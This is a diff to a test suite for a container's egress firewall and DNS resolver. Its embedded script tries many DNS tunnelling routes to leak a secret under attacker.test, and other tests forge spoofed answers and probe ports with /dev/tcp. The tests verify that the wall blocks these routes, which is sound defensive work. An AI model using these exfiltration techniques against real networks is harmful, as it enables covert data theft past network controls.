@@ -6,21 +6,24 @@ import re
 import struct
 
 import pytest
-from conftest import until
+from conftest import PATIENCE, WALLS, at_best, until
 from internet import DNS_ADDRESS, address_of
 
 # Looks the names up again and again as different programs would, and connects at once to what it
 # is told; also to what it was told before, as a client does that remembers. Prints what failed.
 ROTATION = r"""
 import socket, sys, time
-names, end, seen, failed = sys.argv[2:], time.monotonic() + float(sys.argv[1]), {}, 0
-while time.monotonic() < end:
+names, began, seen, failed = sys.argv[2:], time.monotonic(), {}, 0
+# So long in any case, and on a slow machine until each has changed often enough, or it is too late.
+def lasts(took):
+    return took < float(sys.argv[1]) or took < 150 and min(map(len, seen.values()), default=0) < 10
+while lasts(time.monotonic() - began):
     for name in names:
         told = {i[4][0] for i in socket.getaddrinfo(name, 8443, socket.AF_INET)}
         old = seen.setdefault(name, [])
         for address in [*told, *old[-3:]]:
             try:
-                socket.create_connection((address, 8443), 3).close()
+                socket.create_connection((address, 8443), 30).close()
             except OSError as e:
                 failed += 1
                 print("failed", name, address, e)
@@ -38,7 +41,7 @@ def test_ten_minutes_of_rotation(run, dns, sinks):
     for name, addresses in pools.items():
         dns.rotate(name, addresses, ttl=1)
     allow = " ".join(f"{name}:8443" for name in pools)
-    done = run("python3", "-c", ROTATION, "50", *pools, allow=allow, timeout=90).ok()
+    done = run("python3", "-c", ROTATION, "50", *pools, allow=allow, timeout=200).ok()
     rotations, failed = map(int, re.search(r"rotations (\d+) failed (\d+)", done.out).groups())
     assert failed == 0 and rotations >= 10, done
     assert sinks.addresses() <= {a for addresses in pools.values() for a in addresses}
@@ -47,7 +50,7 @@ def test_ten_minutes_of_rotation(run, dns, sinks):
 
 # Every way out by DNS that we know of, for a name no rule allows and one below an allowed name.
 WAYS_OUT = r"""
-import json, socket, ssl, struct, subprocess, sys
+import concurrent.futures, json, socket, ssl, struct, subprocess, sys
 
 secret = sys.argv[1]
 names = [f"{secret}.attacker.test", f"{secret}.api.openai.com"]
@@ -68,40 +71,59 @@ def engine_ports():
     return ports
 
 
+def run(*words):
+    subprocess.run(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+def ask(kind, to, message):
+    try:
+        s = socket.socket(socket.AF_INET, kind)
+        s.settimeout(1)
+        s.connect(to)
+        s.send(message)
+        s.recv(512)
+    except OSError:
+        pass
+
+
+def ask_by_tls(to, name):
+    try:
+        raw = socket.create_connection(to, 2)
+        tls = ssl._create_unverified_context().wrap_socket(raw, server_hostname=name)
+        tls.send(wire(name, 16))
+    except OSError:
+        pass
+
+
+begin = concurrent.futures.ThreadPoolExecutor(16).submit
+asked = []
 for name in names:
     for words in ([], ["+tcp"], ["@8.8.8.8"], ["@8.8.8.8", "+tcp"], ["@1.1.1.1", "-p", "5353"],
                   ["@2001:4860:4860::8888"], ["@127.0.0.11"], ["@127.0.0.11", "+tcp"]):
         for kind in ("A", "TXT", "NULL", "HTTPS"):
-            subprocess.run(["dig", "+time=1", "+tries=1", *words, kind, name],
-                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            asked.append(begin(run, "dig", "+time=1", "+tries=1", *words, kind, name))
     for address, port in [("127.0.0.11", p) for p in engine_ports()] + [("8.8.8.8", 53)]:
         for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
             message = wire(name, 16)
             if kind == socket.SOCK_STREAM:
                 message = struct.pack("!H", len(message)) + message
-            try:
-                s = socket.socket(socket.AF_INET, kind)
-                s.settimeout(1)
-                s.connect((address, port))
-                s.send(message)
-                s.recv(512)
-            except OSError:
-                pass
+            asked.append(begin(ask, kind, (address, port), message))
     for port in (853, 443):  # DNS over TLS, DNS over HTTPS to an address
-        try:
-            raw = socket.create_connection(("8.8.8.8", port), 2)
-            tls = ssl._create_unverified_context().wrap_socket(raw, server_hostname=name)
-            tls.send(wire(name, 16))
-        except OSError:
-            pass
+        asked.append(begin(ask_by_tls, ("8.8.8.8", port), name))
+for one in asked:
+    one.result()
 print(len(engine_ports()))
 """
 
 
-@pytest.mark.parametrize("user_defined", [False, True], ids=["bridge", "user-defined"])
+@pytest.mark.parametrize(
+    "wall, user_defined",
+    [("nft", False), ("nft", True), *((name, False) for name in WALLS if name != "nft")],
+    indirect=["wall"], ids=["bridge", "user-defined", "flagless", "no capability", "plain uid"],
+)  # fmt: skip
 def test_no_way_out_by_dns(run, network, dns, sinks, wire, user_defined):
     name = network() if user_defined else None
-    done = run("python3", "-c", WAYS_OUT, "deadbeef00", network=name, timeout=90).ok()
+    done = run("python3", "-c", WAYS_OUT, "deadbeef00", network=name, timeout=200).ok()
     if user_defined:
         assert int(done.out) > 1, "the engine's real ports are known to the test"
     assert [q.name for q in dns.asked() if "deadbeef00" in q.name] == []
@@ -111,7 +133,7 @@ def test_no_way_out_by_dns(run, network, dns, sinks, wire, user_defined):
 
 
 def test_the_same_ways_lead_out_without_the_wall(run, dns):
-    run("python3", "-c", WAYS_OUT, "deadbeef01", init=["--egress=off"], timeout=120).ok()
+    run("python3", "-c", WAYS_OUT, "deadbeef01", init=["--egress=off"], timeout=200).ok()
     assert {q.type for q in dns.asked("attacker.test")} >= {"A", "TXT", "NULL", "HTTPS"}
 
 
@@ -126,7 +148,7 @@ server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("na
 def ask(number, name):
     labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        s.settimeout(3)
+        s.settimeout(30)
         s.connect((server, 53))
         s.send(struct.pack("!6H", number, 256, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1))
         return s.getsockname()[1], s.recv(512)[3] & 15
@@ -184,12 +206,11 @@ def test_a_hostile_answer_is_dropped_counted_and_reported(start, dns, sinks, cou
     dns.forge("allowed.test", hostile(counts))
     if not counts:
         dns.truncate("allowed.test")
-    box = start("bash", "-c", "curl -m 9 https://allowed.test; sleep 60", allow="allowed.test")
+    box = start("bash", "-c", "curl -m 50 https://allowed.test; sleep 600", allow="allowed.test")
     box.until_says("Could not resolve host")
     assert sinks.seen() == []
-    events = box.exec("cat", "/run/codex/events.jsonl").ok().out
-    dropped = [e for e in map(json.loads, events.splitlines()) if e["event"] == "dropped-answer"]
-    assert any(e.get("name") == "allowed.test" and "malformed" in e["reason"] for e in dropped)
+    until(lambda: [e for e in dropped(box) if e.get("name") == "allowed.test" and "malformed" in e["reason"]],
+          lambda: dropped(box))
 
 
 def guesses(count):
@@ -210,10 +231,11 @@ def test_guesses_at_answers_change_the_port_and_are_reported(start, dns, sinks):
     """Some wrong ids in a row, and the question goes by another port with another id, then by TCP:
     a flood gets no more guesses than that, and the name is found."""
     dns.forge("allowed.test", guesses(30), udp_only=True)
-    box = start("sleep", "60", allow="allowed.test")
-    (told,) = until(lambda: dropped(box), what="the report")
-    assert "guessed" in told["reason"] and 8 <= told["count"] <= 60
-    asked = [q for q in dns.asked("allowed.test") if q.type == "A"]
+    box = start("sleep", "600", allow="allowed.test")
+    told = lambda: [e for e in dropped(box) if "guessed" in e["reason"]]  # noqa: E731
+    until(told, "the report")
+    asked = until(lambda: len(found := [q for q in dns.asked("allowed.test") if q.type == "A"]) > 2 and found)
+    assert 8 <= sum(e["count"] for e in told()) <= 60
     assert [q.tcp for q in asked] == [False, False, True]
     assert len({(q.port, q.wire[:2]) for q in asked}) == 3
     assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
@@ -222,9 +244,10 @@ def test_guesses_at_answers_change_the_port_and_are_reported(start, dns, sinks):
 
 def test_a_wrong_id_or_two_change_nothing(start, dns, sinks):
     dns.forge("allowed.test", guesses(2))
-    box = start("sleep", "60", allow="allowed.test")
-    (told,) = until(lambda: dropped(box), what="the report")
-    assert "guessed" not in told["reason"] and told["count"] == 4
+    box = start("sleep", "600", allow="allowed.test")
+    count = lambda: sum(e["count"] for e in dropped(box))  # noqa: E731
+    until(lambda: count() == 4, lambda: dropped(box))
+    assert not any("guessed" in e["reason"] for e in dropped(box))
     assert sorted(q.type for q in dns.asked("allowed.test")) == ["A", "AAAA"]
     assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
     assert sinks.addresses() == {address_of("allowed.test")}
@@ -237,6 +260,7 @@ def respelt(_, packet):
     return [packet[:12] + swapped + packet[end:-4] + b"\x2e\1\1\1", packet]
 
 
+@pytest.mark.cell("nft", "flagless", names=True, seldom=True)
 def test_letters_stay_mixed_whatever_comes_in_other_letters(run, dns, sinks):
     """The forger has guessed the id, each time; of a server that was seen to keep letters. Nothing
     goes out in small ones for that."""
@@ -256,7 +280,7 @@ def resolver(box):
 
 
 def test_restarts_are_bounded_and_nothing_opens(start, sinks, dns):
-    box = start("sleep", "300", allow="allowed.test")
+    box = start("sleep", "600", allow="allowed.test")
     until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
     log = lambda: box.exec("cat", "/run/codex/events.jsonl").out  # noqa: E731
 
@@ -265,7 +289,7 @@ def test_restarts_are_bounded_and_nothing_opens(start, sinks, dns):
             box.exec("kill", "-KILL", str(pid))
         return "resolver" in log() and "stays down" in log()
 
-    until(end, 60, "giving up")
+    until(end, "giving up", 3 * PATIENCE)
     assert log().count("is started again") == 8
     asked = len(dns.asked())
     sinks.mark()
@@ -276,7 +300,7 @@ def test_restarts_are_bounded_and_nothing_opens(start, sinks, dns):
 
 def test_a_flood_takes_no_memory(start):
     """Everything the resolver will ever use is there when it starts."""
-    box = start("sleep", "60", allow="allowed.test *.wild.test")
+    box = start("sleep", "600", allow="allowed.test *.wild.test")
     until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
 
     def size():
@@ -306,20 +330,23 @@ for i in range(200):
     assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
 
 
-def test_a_private_service_on_its_own_port(shell, dns, sinks):
-    """+private end to end, with a name that only the search list makes whole."""
+@pytest.mark.cell("nft", "flagless")
+def test_a_private_service_on_its_own_port(shell, dns, sinks, wall):
+    """+private end to end, with a name that only the search list makes whole. In the cell it is the
+    gate that listens on 443, for the sake of other rules, and it that refuses."""
     dns.add("db.corp.test", "10.1.2.9")
-    knock = "timeout 5 bash -c 'exec 3<>/dev/tcp/'db/$p"
+    knock = "timeout 50 bash -c 'exec 3<>/dev/tcp/'db/$p"
     done = shell(
         f"for p in 5432 5433 443; do {knock}; echo $?; done",
         allow="db:5432+private",
         options=["--dns-search", "corp.test"],
     ).ok()
-    assert done.lines() == ["0", "1", "1"], done
+    assert done.lines() == ["0", "1", "1" if wall == "nft" else "0"], done
     assert sinks.seen() == [("tcp", "10.1.2.9", 5432)]
     assert {q.name for q in dns.asked("corp.test")} == {"db.corp.test"}
 
 
+@pytest.mark.cell("nft", "flagless", names=True, seldom=True)
 def test_letters_are_mixed_on_the_wire(run, dns):
     """For a forger to guess; the payload's own spelling has no part in it."""
     run("true", allow="abcdefghijklmnopqrstuvwxyz.test").ok()
@@ -335,25 +362,32 @@ TOOLS = [
 ]
 
 
+@pytest.mark.cell("nft", "flagless", names=True)
 @pytest.mark.parametrize("tool", TOOLS, ids=["curl", "git", "node", "python"])
 def test_glibc_tools_resolve_what_is_allowed_and_fail_fast_on_the_rest(shell, sinks, dns, tool):
     # git reaches its server, which has no such repository.
     shell(tool.format(name="allowed.test") + "; true", allow="allowed.test").ok()
     assert sinks.seen() and set(sinks.seen()) == {("tcp", address_of("allowed.test"), 443)}
     sinks.mark()
-    done = shell(
-        "cat >/tmp/tool <<'E'\n" + tool.format(name="x.attacker.test") + "\nE\n"
-        "timeout 10 bash /tmp/tool; echo $?",
-        allow="allowed.test",
-    ).ok()
-    assert done.lines()[-1] not in ("0", "124"), done
+
+    def failing():
+        done = shell(
+            "cat >/tmp/tool <<'E'\n" + tool.format(name="x.attacker.test") + "\nE\n"
+            "SECONDS=0; timeout 60 bash /tmp/tool; echo $? $SECONDS",
+            allow="allowed.test",
+        ).ok()
+        status, seconds = map(int, done.lines()[-1].split())
+        assert status not in (0, 124), done
+        return seconds
+
+    at_best(failing, 10)
     assert sinks.seen() == [] and dns.asked("attacker.test") == []
 
 
 def test_a_neighbour_on_a_user_defined_network(start, shell, network):
     """The engine's own resolver is asked in mixed letters, too, and finds the name."""
     name, joined = "abcdefghijklmnop", network()
-    start("sleep", "60", network=joined, options=["--network-alias", name], init=["--egress=off"])
+    start("sleep", "600", network=joined, options=["--network-alias", name], init=["--egress=off"])
     done = shell(f"getent ahostsv4 {name}", allow=f"{name}:8443+private", network=joined).ok()
     assert re.match(r"172\.29\.", done.out), done
 
